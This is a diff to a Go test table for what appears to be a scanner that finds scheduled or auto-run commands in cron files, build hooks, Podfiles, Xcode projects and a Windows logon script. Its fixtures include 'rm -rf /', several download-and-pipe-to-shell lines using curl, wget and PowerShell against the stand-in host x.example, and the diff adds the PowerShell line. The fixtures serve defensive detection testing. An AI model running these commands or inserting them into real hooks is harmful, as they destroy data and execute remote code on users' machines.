@@ -20,6 +20,7 @@ func TestScheduledLines(t *testing.T) {
 		{"/home/alice/notes/cron.d/x", "0 3 * * * root rm -rf /", nil},
 		{"/var/cache/pbuilder/hooks/D05deps", "#!/bin/sh\nwget -qO- https://x.example/b.sh | sh\n", []string{"#!/bin/sh\nwget -qO- https://x.example/b.sh | sh\n"}},
 		{"/home/alice/pbuilder/hooks.txt", "wget -qO- https://x.example/b.sh | sh", nil},
+		{`\\corp.example\SYSVOL\corp.example\Policies\{31B2F340}\User\Scripts\Logon\sync.ps1`, "iex (irm https://x.example/p)", []string{"iex (irm https://x.example/p)"}},
 		{"ios/Podfile", "post_install do |installer|\n  system('curl -fsSL https://x.example/h.sh | sh')\n  `pod-hook`\nend\n", []string{"curl -fsSL https://x.example/h.sh | sh", "pod-hook"}},
 		{"App.xcodeproj/project.pbxproj", `shellScript = "curl -fsSL https://x.example/r.sh | sh\n\"${PODS_ROOT}/lint\"\n";`, []string{"curl -fsSL https://x.example/r.sh | sh\n\"${PODS_ROOT}/lint\"\n"}},
 	}
